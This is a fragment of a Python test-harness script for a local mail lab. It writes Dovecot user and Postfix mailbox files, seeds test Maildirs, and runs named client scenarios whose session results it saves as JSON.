    what = sys.argv[2]
    if what == "setup-files":
        with open(os.path.join(CFG["lab"], "dovecot", "users"), "w") as f:
            for u, pw in USERS.items():
                f.write("%s:{PLAIN}%s::::::\n" % (u, pw))
        with open(os.path.join(CFG["lab"], "postfix", "etc", "vmailbox"), "w") as f:
            for u in USERS:
                f.write("%s %s/Maildir/\n" % (addr(u), u))
        return
    if what == "seed":
        user, count = sys.argv[3], int(sys.argv[4])
        size = int(sys.argv[5]) if len(sys.argv) > 5 else 0
        facts = labmsg.seed_maildir(os.path.join(CFG["lab"], "mail", user), user, count, size)
        json.dump(facts, sys.stdout)
        return
    if what == "seed-spec":
        spec = SCENARIOS[sys.argv[3]][1]
        print(" ".join(str(x) for x in spec) if spec else "")
        return
    fn, seed = SCENARIOS[what]
    out_path = sys.argv[3]
    sessions = []
    t0 = time.time()
    try:
        if seed:
            with open(out_path + ".seed") as f:
                seeded = json.load(f)
            fn(sessions, seeded)
        else:
            fn(sessions)
    finally:
        for s in sessions:
            s.pop("_stdout", None)
        with open(out_path, "w") as f:
            json.dump({"scenario": what, "sessions": sessions, "client_seconds": round(time.time() - t0, 3)},
                      f, indent=1, ensure_ascii=False)


if __name__ == "__main__":
    main()
